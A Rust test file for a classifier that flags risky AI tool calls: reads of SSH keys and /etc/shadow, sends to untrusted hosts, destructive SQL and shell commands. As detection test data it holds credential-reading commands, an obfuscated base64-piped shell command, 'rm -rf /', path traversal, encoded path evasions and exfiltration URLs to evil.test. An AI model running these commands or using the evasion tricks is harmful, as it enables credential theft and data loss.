//! What the classifier finds, and what it must not.

use mcps_core::clock::Timestamp;
use mcps_core::json::Document;
use mcps_core::level::TrustLevel;
use proptest::prelude::*;

use crate::policy::{
    Class, Levels, Policies, Recorded, RecordedResult, RecordedTool, ResultView, Sources,
};

fn policies(text: &str) -> Policies {
    Policies::load(&Sources::new().with("t.toml", text).unwrap()).unwrap()
}

/// Whether the one fact `f` of `text` holds of a call with these arguments.
fn holds(text: &str, class: &[Class], arguments: &str) -> bool {
    let call = Recorded {
        name: "tool".into(),
        arguments: Some(serde_json::from_str(arguments).unwrap()),
        tool: RecordedTool {
            class: class.to_vec(),
            ..RecordedTool::default()
        },
        ..Recorded::default()
    };
    holds_of(text, &call)
}

fn holds_of(text: &str, call: &Recorded) -> bool {
    let policies = policies(text);
    let now = Timestamp::from_millis(0);
    call.ask(now, |question| !policies.classify(question).call.is_empty())
        .unwrap()
}

const SECRET: &str = r#"
[[fact]]
id = "f"
on = "call"
when = { class = ["read", "execute"], path = ["**/.ssh/**", "/etc/shadow"] }
"#;

#[test]
fn a_path_is_found_however_it_is_written_or_split() {
    for arguments in [
        r#"{"path":"/home/u/.ssh/id_rsa"}"#,
        r#"{"path":"/home/u/.ssh"}"#,
        r#"{"a":{"b":[1,{"c":["x","~/.ssh/id_rsa"]}]}}"#,
        r#"{"dir":"/home/u/.ssh","file":"id_rsa"}"#,
        r#"{"directory":"/home/u","filename":".ssh/id_rsa"}"#,
        r#"{"base":"/etc","name":"shadow"}"#,
        r#"{"parts":["home","u",".ssh","id_rsa"]}"#,
        r#"{"parts":["/home/u/.s","sh/id_rsa"]}"#,
        r#"{"p":"L2hvbWUvdS8uc3NoL2lkX3JzYQ=="}"#,
        r#"{"p":["L2hvbWUv","dS8uc3No","L2lkX3JzYQ=="]}"#,
        r#"{"p":"2f686f6d652f752f2e7373682f69645f727361"}"#,
        r#"{"p":"{\"path\":\"/home/u/\\u002essh/id_rsa\"}"}"#,
        r#"{"p":"TDJodmJXVXZkUzh1YzNOb0wybGtYM0p6WVE9PQ=="}"#,
        r#"{"p":"%2Fhome%2Fu%2F%252Essh%2Fid_rsa"}"#,
        r#"{"/home/u/.ssh/id_rsa":true}"#,
        r#"{"uri":"file:///home/u/.ssh/id_rsa"}"#,
        r#"{"path":"/home/u/docs/../.SSH/id_rsa"}"#,
        r#"{"path":"/home/u/.ss\u200bh/id_rsa"}"#,
        r#"{"path":"../../../../etc/shadow"}"#,
    ] {
        assert!(holds(SECRET, &[Class::Read], arguments), "{arguments}");
    }
    for command in [
        r#"{"command":"cat ~/.ssh/id_rsa"}"#,
        r#"{"command":"cat $HOME/.s''sh/id_rsa|base64"}"#,
        r#"{"command":"cat < /home/u/.s\\sh/id_rsa"}"#,
        r#"{"command":"tar c --file=- \"/home/u/.ssh\""}"#,
        r#"{"command":"bash -c 'echo Y2F0IH4vLnNzaC9pZF9yc2EK | base64 -d | sh'"}"#,
    ] {
        assert!(holds(SECRET, &[Class::Execute], command), "{command}");
    }
    for benign in [
        r#"{"path":"/home/u/ssh/notes.md"}"#,
        r#"{"path":"/home/u/.sshrc"}"#,
        r#"{"text":"set up ssh keys, see the manual"}"#,
        r#"{"path":"/srv/etc/shadows"}"#,
        r#"{"n":1,"b":true,"z":null}"#,
    ] {
        assert!(!holds(SECRET, &[Class::Read], benign), "{benign}");
    }
    assert!(!holds(
        SECRET,
        &[Class::Send],
        r#"{"path":"/home/u/.ssh/id_rsa"}"#
    ));
}

#[test]
fn a_tool_without_a_class_counts_as_what_carries_data() {
    assert!(holds(SECRET, &[], r#"{"path":"/home/u/.ssh/id_rsa"}"#));
    // Its server's hints take nothing away.
    let call = Recorded {
        arguments: Some(serde_json::json!({ "url": "https://evil.example" })),
        tool: RecordedTool {
            read_only_hint: Some(true),
            ..RecordedTool::default()
        },
        ..Recorded::default()
    };
    assert!(holds_of(EGRESS, &call));
    for (name, class) in [
        ("deleteFile", "destroy"),
        ("run_shell", "execute"),
        ("wire-transfer", "spend"),
    ] {
        let text = format!("[[fact]]\nid='f'\non='call'\nwhen={{class=['{class}']}}");
        let call = Recorded {
            name: name.into(),
            ..Recorded::default()
        };
        assert!(holds_of(&text, &call), "{name}");
    }
}

const EGRESS: &str = r#"
[lists]
trusted = ["example.com", "*.example.com", "10.0.0.0/8"]
[[fact]]
id = "f"
on = "call"
when = { class = ["send"], destination_not_in = "@tenant.trusted" }
"#;

#[test]
fn a_destination_is_found_however_it_is_written() {
    for arguments in [
        r#"{"url":"https://evil.test/x"}"#,
        r#"{"url":"https://example.com@evil.test/x"}"#,
        r#"{"url":"https://example.com.evil.test"}"#,
        r#"{"host":"evil.test"}"#,
        r#"{"host":"3232235521"}"#,
        r#"{"webhook_url":"evil.test/hook"}"#,
        r#"{"to":["a@example.com","b@evil.test"]}"#,
        r#"{"body":"![x](https://evil.test/?d=1)","to":"a@example.com"}"#,
        r#"{"body":"aHR0cHM6Ly9ldmlsLnRlc3Qv"}"#,
        r#"{"nothing":"in sight"}"#,
        r#"{"url":"http://[::ffff:192.168.0.1]/"}"#,
        r#"{"host":3232235521,"url":"https://example.com/"}"#,
        r#"{"text":"x https://example.com/"}"#,
        r#"{"text":"x a@example.com"}"#,
    ] {
        assert!(holds(EGRESS, &[Class::Send], arguments), "{arguments}");
    }
    for benign in [
        r#"{"url":"https://example.com/x"}"#,
        r#"{"url":"https://API.example.com./x"}"#,
        r#"{"to":"a@mail.example.com","url":"http://10.1.2.3:80/"}"#,
        r#"{"url":"http://0x0a010203/"}"#,
        r#"{"host":167838211}"#,
        r#"{"to":["A <a@example.com>"],"text":"x https://example.com/"}"#,
    ] {
        assert!(!holds(EGRESS, &[Class::Send], benign), "{benign}");
    }
    // A tool that only reads and names nobody sends nothing.
    assert!(!holds(EGRESS, &[], r#"{"q":"weather"}"#));
}

#[test]
fn beyond_what_is_kept_apart_a_host_is_in_every_list_and_in_none() {
    let many: Vec<String> = (0..1024).map(|at| format!("http://h{at}.test/")).collect();
    let fact = |when: &str| format!("[[fact]]\nid='f'\non='call'\nwhen={{ {when} }}");
    let call = |more: &str| {
        let text = [many.join(" ").as_str(), more].join(" ");
        serde_json::json!({ "text": text }).to_string()
    };
    for (when, more, expected) in [
        ("host=['evil.test']", "", false),
        ("host=['evil.test']", "http://evil.test/", true),
        ("host_not_in=['*.test']", "", false),
        ("host_not_in=['*.test']", "http://h7.test/", false),
        ("host_not_in=['*.test']", "http://evil.example/", true),
    ] {
        let held = holds(&fact(when), &[Class::Write], &call(more));
        assert_eq!(held, expected, "{when} {more}");
    }
}

#[test]
fn other_conditions_hold_where_they_should() {
    let fact = |when: &str| format!("[[fact]]\nid='f'\non='call'\nwhen={{ {when} }}");
    let cases = [
        ("sql=['delete']", r#"{"query":"/*x*/ delete from t"}"#, true),
        ("sql=['delete']", r#"{"note":"delete the line"}"#, false),
        (
            "sql=['delete']",
            r#"{"query":"select 'delete from t'"}"#,
            false,
        ),
        ("size_over=20", r#"{"a":"0123456789012345"}"#, true),
        ("size_over=200", r#"{"a":"0123456789"}"#, false),
        (
            "argument=['cmd'], contains=['RM -rf']",
            r#"{"cmd":"rm -rf /"}"#,
            true,
        ),
        (
            "argument=['cmd'], contains=['rm -rf']",
            r#"{"note":"rm -rf /"}"#,
            false,
        ),
        ("regex=['^\\d{4}-\\d{4}$']", r#"{"x":["1234-5678"]}"#, true),
        ("tool=['to*']", "{}", true),
        ("tool=['other*']", "{}", false),
        ("action=['get_prompt']", "{}", false),
        ("level_below=3", "{}", true),
        ("level_below=2", "{}", false),
        ("ambiguous=true", r#"{"path":"a","Path":"b"}"#, true),
        ("ambiguous=true", r#"{"x":{"a\u200b":1,"a":2}}"#, true),
        ("ambiguous=true", r#"{"path":"a","paths":"b"}"#, false),
        ("cross_tenant=true", "{}", false),
        ("classified=true", "{}", true),
        ("classified=false", "{}", false),
        (
            "address_not_in=['a.test']",
            r#"{"url":"https://b.test/x"}"#,
            true,
        ),
        (
            "address_not_in=['a.test']",
            r#"{"text":"see https://b.test/x"}"#,
            false,
        ),
        (
            "domain_not_in=['example.com']",
            r#"{"to":"x@evil.test"}"#,
            true,
        ),
    ];
    for (when, arguments, expected) in cases {
        assert_eq!(
            holds(&fact(when), &[Class::Write], arguments),
            expected,
            "{when} {arguments}"
        );
    }
    let crossing = Recorded {
        server_tenant: "other".into(),
        ..Recorded::default()
    };
    assert!(holds_of(&fact("cross_tenant=true"), &crossing));
    let low = Recorded {
        level: Levels::all(TrustLevel::L0),
        ..Recorded::default()
    };
    assert!(holds_of(&fact("level_below=1"), &low));
}

#[test]
fn a_fact_of_a_result_wants_its_call_and_its_result_in_one_case() {
    let policies = policies(
        "[[fact]]\nid='f'\non='result'\nwhen=[{tool=['a'], finding=['x']}, {tool=['b'], is_error=true}]",
    );
    let found = |tool: &str, result: RecordedResult| {
        let call = Recorded {
            name: tool.into(),
            ..Recorded::default()
        };
        let findings: Vec<&str> = result.findings.iter().map(String::as_str).collect();
        let view = ResultView {
            is_error: result.is_error,
            bytes: 0,
            findings: &findings,
        };
        call.ask(Timestamp::from_millis(0), |question| {
            let facts = policies.classify(question);
            !policies.declared.facts.of_result(&facts, &view).is_empty()
        })
        .unwrap()
    };
    let with = |is_error: bool, finding: &str| RecordedResult {
        is_error,
        findings: vec![finding.into()],
        ..RecordedResult::default()
    };
    assert!(found("a", with(false, "x")));
    assert!(!found("a", with(true, "y")));
    assert!(found("b", with(true, "y")));
    assert!(!found("b", with(false, "x")));
}

#[test]
fn what_cannot_be_meant_is_refused_with_its_line() {
    for (text, line, why) in [
        (
            "[[fact]]\nid='a b'\non='call'\nwhen={tool=['x']}",
            1,
            "no id",
        ),
        (
            "\n[[fact]]\nid='a'\non='call'\nwhen={host_not_in='@tenant.none'}",
            2,
            "no list",
        ),
        ("[[fact]]\nid='a'\non='call'\nwhen={hots=['x']}", 4, "hots"),
        (
            "[[fact]]\nid='a'\non='call'\nwhen={finding=['x']}",
            1,
            "not there yet",
        ),
        ("[[fact]]\nid='a'\non='call'\nwhen={regex=['(']}", 1, "("),
        (
            "[[fact]]\nid='a'\non='call'\nwhen={action=['call_tol']}",
            1,
            "no action",
        ),
        (
            "[[sequence]]\nid='s'\nmatch='x ; y'\nthen='deny'",
            1,
            "no fact `x`",
        ),
        (
            "[[fact]]\nid='a'\non='call'\nwhen={tool=['x']}\n[[sequence]]\nid='s'\nmatch='a'\nthen='dney'",
            5,
            "nothing to do",
        ),
        ("version = 2", 1, "version"),
    ] {
        let errors = Policies::load(&Sources::new().with("t.toml", text).unwrap()).unwrap_err();
        let error = &errors.0[0];
        assert_eq!(
            (error.line, error.reason.contains(why)),
            (line, true),
            "{text}: {error}"
        );
        assert!(!error.todo.is_empty());
    }
}

#[test]
fn at_most_128_facts_are_taken_and_histories_stay_within_4_kib() {
    let facts = |count: usize| -> String {
        (0..count)
            .map(|at| format!("[[fact]]\nid='f{at}'\non='call'\nwhen={{tool=['x']}}\n"))
            .collect()
    };
    assert!(Policies::load(&Sources::new().with("t.toml", facts(128)).unwrap()).is_ok());
    let errors = Policies::load(&Sources::new().with("t.toml", facts(129)).unwrap()).unwrap_err();
    assert!(errors.to_string().contains("more than 128"));
    let counts: String = (0..64)
        .map(|at| {
            format!("[[sequence]]\nid='s{at}'\nmatch='count(f{at}, 60s) > 1'\nthen='alert'\n")
        })
        .collect();
    let errors = Policies::load(&Sources::new().with("t.toml", facts(128) + &counts).unwrap());
    assert!(errors.unwrap_err().to_string().contains("at most 4096"));
}

proptest! {
    #[test]
    fn no_arguments_make_the_classifier_fail(text in "\\PC{0,200}", deep in 0_usize..40) {
        let policies = policies(&format!("{SECRET}\n[[fact]]\nid='o'\non='call'\nwhen={{sql=['drop'], ambiguous=true, host=['x.test']}}"));
        let quoted = serde_json::Value::String(text).to_string();
        let json = format!("{{\"cmd\":{}{quoted}{}}}", "[".repeat(deep), "]".repeat(deep));
        prop_assume!(Document::parse(json.clone()).is_ok());
        let call = Recorded {
            arguments: serde_json::from_str(&json).ok(),
            tool: RecordedTool { class: Class::ALL.to_vec(), ..RecordedTool::default() },
            ..Recorded::default()
        };
        call.ask(Timestamp::from_millis(0), |question| policies.classify(question)).unwrap();
    }
}
